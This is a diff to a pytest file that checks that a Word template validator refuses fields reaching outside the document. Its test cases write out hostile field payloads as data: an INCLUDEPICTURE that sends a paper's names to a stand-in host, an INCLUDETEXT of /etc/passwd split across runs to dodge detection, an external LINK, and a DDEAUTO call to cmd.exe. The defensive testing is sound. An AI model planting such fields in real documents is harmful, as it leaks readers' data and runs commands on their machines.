@@ -7,6 +7,9 @@ from datetime import date
 
 import docx
 import pytest
+from docx.opc.constants import RELATIONSHIP_TYPE as RT
+from docx.oxml import OxmlElement
+from docx.oxml.ns import qn
 
 from giamngheo.law.document_forms import DocumentForm, document_forms, fields_of
 from giamngheo.platform.documents import Paper, UnknownValue, paper_pdf, shipped_template, specimen
@@ -145,6 +148,54 @@ def test_a_field_hidden_in_the_properties_of_the_file_is_found() -> None:
     with pytest.raises(TemplateRefused) as refused:
         check_template(CERTIFICATE, out.getvalue())
     assert "secret_field" in refused.value.message.vi
+
+
+def with_field(said: str, *, simple: bool = False) -> bytes:
+    """The template with one more field, as an administrator may put it in with Word."""
+    document = docx.Document(io.BytesIO(shipped_template(CERTIFICATE)))
+    paragraph = document.add_paragraph()
+    if simple:
+        field = OxmlElement("w:fldSimple")
+        field.set(qn("w:instr"), said)
+        paragraph._p.append(field)
+    for part in () if simple else said.split("|"):
+        told = OxmlElement("w:instrText")
+        told.text = part
+        paragraph.add_run()._r.append(told)
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("said", "simple"),
+    [
+        ('INCLUDEPICTURE "https://example.invalid/{{ head_name }}"', False),
+        ('INC|LUDE|TEXT "/etc/passwd"', False),
+        ('LINK Excel.Sheet.8 "https://example.invalid/a.xls"', True),
+        ("DDEAUTO c:\\windows\\system32\\cmd.exe", True),
+    ],
+)
+def test_a_template_fetches_nothing_when_it_is_opened(said: str, simple: bool) -> None:
+    """Who keeps templates sees no person: a field would carry the names of each paper to an address."""
+    with pytest.raises(TemplateRefused) as refused:
+        check_template(CERTIFICATE, with_field(said, simple=simple))
+    assert refused.value.code == "reaches_out"
+
+
+def test_page_numbers_and_dates_are_fields_that_stay() -> None:
+    check_template(CERTIFICATE, with_field(" NUM|PAGES \\* MERGEFORMAT"))
+    check_template(CERTIFICATE, with_field(' DATE \\@ "dd/MM/yyyy" ', simple=True))
+
+
+def test_a_picture_from_elsewhere_is_refused() -> None:
+    document = docx.Document(io.BytesIO(shipped_template(CERTIFICATE)))
+    document.part.relate_to("https://example.invalid/a.png", RT.IMAGE, is_external=True)
+    out = io.BytesIO()
+    document.save(out)
+    with pytest.raises(TemplateRefused) as refused:
+        check_template(CERTIFICATE, out.getvalue())
+    assert refused.value.code == "reaches_out"
 
 
 def packed(**files: bytes) -> bytes:
